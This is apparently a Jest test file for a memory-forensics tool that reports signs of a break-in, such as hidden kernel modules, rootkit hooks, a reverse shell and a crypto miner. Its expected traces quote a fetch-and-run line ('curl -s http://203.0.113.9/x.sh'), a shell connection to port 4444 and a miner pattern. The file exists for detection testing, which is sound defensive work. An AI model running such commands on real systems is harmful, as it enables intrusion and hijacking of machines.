import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from '@jest/globals';
import fc from 'fast-check';
import { EXAMINED } from '../../../services/cli/local/local-examiner';
import { inOrder } from '../../../shared/domain/trace';
import type { Collected } from '../../../shared/playbooks/instance-login/collected';
import { examineMemory } from '../../../shared/playbooks/instance-login/examine-memory';
import { BROKEN_INTO, CLEAN, type Rows } from './memory-said';

const INDEX = 'examination/index.json';
type Index = { results: { tool: string; outcome: string; lines: number }[] };

/** What the shipped script said of memory without symbols, written there by its own tests (`.ci/host`). */
function sample(): Map<string, Uint8Array> {
  const folder = join(EXAMINED, 'memory');
  const files = readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((one) =>
    /\.(txt|json)$/.test(one),
  );
  return new Map(files.map((file) => [`examination/${file}`, readFileSync(join(folder, file))]));
}

const withIndex = (files: Collected, change: (index: Index) => unknown): Collected => {
  const index = JSON.parse(Buffer.from(files.get(INDEX) ?? '').toString());
  return new Map([...files, [INDEX, Buffer.from(JSON.stringify(change(index)))]]);
};

/** The sample, as if the examiner had the symbols and the plugins had said this. */
function withRows(rows: Rows, patterns = ''): Collected {
  const files = new Map(sample());
  const lines = (some: readonly object[]) => some.map((row) => `${JSON.stringify(row)}\n`).join('');
  for (const [tool, some] of Object.entries(rows))
    files.set(`examination/0/${tool}.txt`, Buffer.from(lines(some)));
  files.set('examination/0/patterns.txt', Buffer.from(patterns));
  return withIndex(files, (index) => ({
    ...index,
    results: index.results.map((one) => ({ ...one, outcome: 'done' })),
  }));
}

const look = (files: Collected) => examineMemory(files, { since: '2026-11-30' });
const said = (files: Collected) =>
  look(files).traces.map(({ kind, sentence }) => `${kind}: ${sentence}`);

test('memory of a machine that was broken into shows it, the worst first', () => {
  const files = withRows(
    { ...CLEAN, ...BROKEN_INTO },
    'miner 0x1f:$pool: stratum+tcp://a.example.com\n',
  );
  const { traces } = look(files);
  expect(inOrder(traces)).toEqual(traces);
  expect(said(files).sort()).toEqual([
    'command: A command that the shell 700 remembers runs what it fetches.',
    'command: Process 669 (bash) talked with 203.0.113.9 port 4444.',
    'command: Process 669 runs a command that gives a shell to another machine.',
    'kernel: Process 666 (kdevtmp) was taken out of the list of processes.',
    'kernel: The module diamorphine of the kernel is hidden from the list of modules.',
    'kernel: The system call 62 (64bit) leads to nothing that the kernel has.',
    'kernel: rootkit took over __x64_sys_kill of the kernel.',
    'pattern: The memory has what the rule miner knows.',
    'peer: 1 connections to outside were open: ssm-agent to ::ffff:198.51.100.7 port 443.',
    'program: Process 666 runs /dev/shm/.x, whose file is gone.',
    'program: Process 667 runs /tmp/.sh, where only temporary files belong.',
    'program: Process 668 runs /usr/bin/perl, and calls itself a thread of the kernel.',
    'program: Process 812 (nginx) has 2 regions that can be written and run.',
  ]);
  const typed = traces.find(({ sentence }) => sentence.includes('remembers'));
  expect(typed).toMatchObject({ at: '2026-12-01T03:00:00.000Z', words: 'host' });
  expect(typed?.evidence[0]).toContain('curl -s http://203.0.113.9/x.sh');
});

test('clean memory shows nothing, and what was looked for and not found is told', () => {
  const { traces, lookedFor } = look(withRows(CLEAN));
  expect(traces).toEqual([]);
  expect(lookedFor.filter(({ unread }) => unread)).toEqual([]);
  expect(lookedFor.length).toBe(10);
  expect(lookedFor).toContainEqual({ what: 'modules of the kernel that are hidden' });
});

test('without symbols only what needs none is found, and why the rest was not had is told', () => {
  const { traces, lookedFor } = look(sample());
  expect(traces.map(({ sentence }) => sentence)).toEqual([
    'The memory has what the rule reverse_shell knows.',
    'The memory has what the rule miner knows.',
  ]);
  expect(lookedFor).toHaveLength(10);
  for (const { unread } of lookedFor)
    expect(unread).toMatch(
      /^the examiner has no symbols of its kernel: Linux version 6\.1\.0-18-amd64 /,
    );
});

test('where no kernel is recognised, this is told', () => {
  const files = new Map([...sample(), ['examination/0/kernel.txt', Buffer.of()]]);
  expect(look(files).lookedFor).toContainEqual({
    what: 'connections to outside',
    unread: 'no kernel is recognised in it',
  });
});

test('a list that is not whole makes nothing hidden', () => {
  const files = withIndex(withRows({ ...CLEAN, ...BROKEN_INTO }), (index) => ({
    ...index,
    results: index.results.map((one) =>
      one.tool === 'processes' ? { ...one, outcome: 'late' } : one,
    ),
  }));
  expect(said(files).join()).not.toContain('taken out of the list');
  expect(look(files).lookedFor).toContainEqual({
    what: 'processes that were taken out of the list of processes',
    unread: 'the list of processes could not be had',
  });
});

test('a plugin that says nothing of what every machine has did not look', () => {
  expect(look(withRows({ ...CLEAN, syscalls: [] })).lookedFor).toContainEqual({
    what: 'system calls that lead out of the kernel',
    unread: 'it gave nothing, and no machine has none',
  });
});

test('lines that are no rows are counted, tools that are left out are told, and so is an index that is none', () => {
  const torn = new Map([...withRows(CLEAN), ['examination/0/hooks.txt', Buffer.from('[]\n{"a\n')]]);
  expect(look(torn).lookedFor).toContainEqual({
    what: 'functions of the kernel that a module took over',
    unread: '2 lines of it are of no known form',
  });
  const files = withIndex(sample(), (index) => ({
    ...index,
    results: index.results.filter(({ tool }) => tool !== 'typed'),
  }));
  expect(look(files).lookedFor).toContainEqual({
    what: 'typed',
    unread: 'the examiner says nothing of it',
  });
  expect(look(new Map()).lookedFor).toEqual([
    { what: 'anything in the memory', unread: 'the examiner sent no index' },
  ]);
});

test('a hostile name stays on its line, and no row makes more traces than are kept', () => {
  const name = 'x\n\u001b[2J\u202e';
  const hidden = { Name: name, 'In procfs': false };
  const [first, ...more] = said(withRows({ ...CLEAN, modules: Array(1_000).fill(hidden) }));
  expect(first).toBe(
    'kernel: The module x\\u{a}\\u{1b}[2J\\u{202e} of the kernel is hidden from the list of modules.',
  );
  expect(more).toHaveLength(199);
  expect(look(withRows({ ...CLEAN, modules: Array(1_000).fill(hidden) })).tracesLeft).toBe(800);
});

test('nothing that the memory holds makes it throw', () => {
  const whole = withRows({ ...CLEAN, ...BROKEN_INTO });
  const columns = fc.constantFrom(
    ...new Set(
      Object.values({ ...CLEAN, ...BROKEN_INTO }).flatMap((rows) =>
        rows.flatMap((row) => Object.keys(row)),
      ),
    ),
    '__proto__',
  );
  const row = fc.dictionary(
    columns,
    fc.oneof(
      fc.string(),
      fc.jsonValue(),
      fc.integer(),
      fc.date().map((at) => (Number.isNaN(at.getTime()) ? '' : at.toISOString())),
    ),
  );
  const text = fc.oneof(
    fc.string(),
    fc.json(),
    row.map((one) => JSON.stringify(one)),
  );
  const change = fc.tuple(
    fc.constantFrom(...whole.keys()),
    fc.array(text).map((lines) => lines.join('\n')),
  );
  fc.assert(
    fc.property(fc.array(change, { maxLength: 4 }), (changes) => {
      const files = new Map([
        ...whole,
        ...changes.map(([file, body]) => [file, Buffer.from(body)] as const),
      ]);
      for (const { sentence, evidence } of look(files).traces) {
        expect(sentence).not.toMatch(/\p{Cc}/u);
        expect(evidence.join('')).not.toMatch(/\p{Cc}/u);
      }
    }),
    { numRuns: 300 },
  );
});
